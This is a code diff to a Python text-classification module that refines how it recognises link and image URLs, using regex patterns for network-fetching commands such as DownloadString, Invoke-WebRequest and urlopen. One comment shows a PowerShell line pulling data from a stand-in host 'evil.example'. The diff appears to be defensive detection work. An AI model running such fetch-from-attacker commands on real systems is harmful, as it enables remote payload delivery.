@@ -54,7 +54,8 @@ _REQUESTING: Final = late(r"\b(?:GET|POST|PUT|CONNECT)[ \t]+[\"'`]?\Z")
 # `$u='https://evil.example/x';$b=$w.DownloadData($u)`
 _VARIABLE: Final = late(r"[$\w]\w{0,20}\s?=\s?[\"']\Z")
 _FETCHES: Final = late(r"(?i)\b(?:download(?:string|file|data)|invoke-(?:webrequest|restmethod)|iwr|irm|urlopen)\b")
-_PICTURE: Final = late(r"\s{0,8}<img\b[^<>\n]{0,160}(?<=\s)src=[\"']?\Z", re.IGNORECASE)
+_ANCHOR: Final = late(r"<a\b[^<>\n]{0,120}(?<=\s)href=[\"']?\Z", re.IGNORECASE)
+_PICTURE: Final = late(r"(?m)^\s{0,8}<img\b[^<>\n]{0,160}(?<=\s)src=[\"']?\Z", re.IGNORECASE)
 _FENCE: Final = late(r"(?m)^[ \t]{0,8}(?:```|~~~)")
 _QUOTES: Final = frozenset("\"'`\u2018\u2019\u201c\u201d\u201e\u00ab\u00bb")
 _CALLED_A_HOST: Final = late(
@@ -323,12 +324,16 @@ class TextContext:
             return _LABEL_OF_A_LINK.search(text, max(0, start - LONGEST_HEADING), start) is not None
         if text[start - 1] == "[":
             return _TITLE_OF_A_LINK.match(text, start) is not None
-        return text[max(0, start - 5) : start].rstrip("\"'").endswith("src=") and self._is_picture(start)
+        attribute = text[max(0, start - 6) : start].rstrip("\"'")
+        if attribute.endswith("href="):
+            return not self.is_note and self._is_of_a_tag(_ANCHOR, start)
+        return attribute.endswith("src=") and self._is_of_a_tag(_PICTURE, start)
 
-    def _is_picture(self, start: int) -> bool:
-        """Tell whether `<img src="` alone stands before `start` on its line, and in no listing."""
-        first = self.text.rfind("\n", max(0, start - _WORDING_REACH), start) + 1
-        return _PICTURE.match(self.text, first, start) is not None and bisect_right(self._fences, start) % 2 == 0
+    def _is_of_a_tag(self, tag: re.Pattern[str], start: int) -> bool:
+        """Tell whether the tag (`<img src="` alone on its line, `<a href="`) stands before `start`, in no listing."""
+        reach = max(0, start - _WORDING_REACH)
+        first = max(reach, self.text.rfind("\n", reach, start) + 1)
+        return tag.search(self.text, first, start) is not None and bisect_right(self._fences, start) % 2 == 0
 
     @cached_property
     def _fences(self) -> list[int]:
